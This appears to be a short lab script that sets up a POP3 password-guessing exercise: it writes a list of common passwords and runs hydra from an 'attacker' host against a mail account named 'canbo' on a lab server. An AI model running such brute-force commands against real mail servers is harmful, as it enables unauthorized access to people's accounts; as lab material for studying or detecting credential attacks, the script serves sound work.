# Passwords guessed over POP3.
# packages: hydra dovecot-pop3d
printf '%s\n' 123456 admin password root tinh2026 Abc@123 qwerty 111111 >"$LAB_DIR/words"
LAB_SECONDS=25 from attacker hydra -I -t 8 -l canbo -P "$LAB_DIR/words" pop3://$SERVER
